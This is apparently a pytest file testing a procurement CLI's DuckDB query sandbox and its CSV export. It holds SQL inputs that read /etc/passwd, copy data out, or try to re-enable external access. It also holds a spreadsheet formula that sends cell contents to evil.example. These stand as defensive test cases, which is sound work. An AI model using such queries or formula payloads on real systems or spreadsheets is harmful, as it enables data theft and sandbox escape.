"""`procure query` reads the warehouse and nothing else; its CSV is safe to open (issue 16 item 12)."""

from __future__ import annotations

from decimal import Decimal

import duckdb
import pytest
from click.testing import CliRunner

from procure.cli import main
from procure.query import QueryError, format_csv, run_query


@pytest.fixture
def warehouse(tmp_path):
    path = tmp_path / "w.duckdb"
    with duckdb.connect(str(path)) as con:
        con.execute("create schema marts")
        con.execute(
            "create table marts.suppliers as select * from (values "
            '(\'=HYPERLINK("http://evil.example/?"&A1,"x")\', -250.00::decimal(18,2)), '
            "('Acme Ltd', 1200.50::decimal(18,2)), ('-1+1', 3.00::decimal(18,2))) t(name, amount_gbp)"
        )
    return path


@pytest.mark.parametrize(
    "sql",
    [
        "select * from read_csv('/etc/passwd')",
        "select * from read_text('/etc/hostname')",
        "select * from glob('/etc/*')",
        "copy (select * from marts.suppliers) to '{out}'",
        "attach '{out}' as other",
        "set enable_external_access = true",
        "reset enable_external_access",
        "set lock_configuration = false",
        "install httpfs",
    ],
)
def test_no_file_or_network_access_and_no_way_back(warehouse, tmp_path, sql):
    out = tmp_path / "stolen.csv"
    with pytest.raises(QueryError) as failed:
        run_query(sql.format(out=out), warehouse=warehouse)
    assert str(warehouse) in str(failed.value)
    assert any(word in str(failed.value) for word in ("disabled", "locked")), failed.value
    assert not out.exists()


def test_the_warehouse_itself_is_still_readable(warehouse):
    columns, rows = run_query("select name, amount_gbp from marts.suppliers order by name", warehouse=warehouse)
    assert columns == ["name", "amount_gbp"] and len(rows) == 3


def test_csv_neutralises_formulas_and_keeps_numbers(warehouse, monkeypatch):
    monkeypatch.setenv("PROCURE_WAREHOUSE", str(warehouse))
    result = CliRunner().invoke(main, ["query", "--csv", "select name, amount_gbp from marts.suppliers order by 2"])
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [
        "name,amount_gbp",
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-250.00',
        "'-1+1,3.00",
        "Acme Ltd,1200.50",
    ]
    assert format_csv(["=cmd"], [(Decimal("-20.00"),)]) == "'=cmd\n-20.00\n"


def test_cli_reports_a_refused_read_without_a_traceback(warehouse, monkeypatch):
    monkeypatch.setenv("PROCURE_WAREHOUSE", str(warehouse))
    result = CliRunner().invoke(main, ["query", "select * from read_csv('/etc/passwd')"])
    assert result.exit_code == 1
    assert "Error: query failed on" in result.output and "disabled" in result.output
    assert "root:" not in result.output
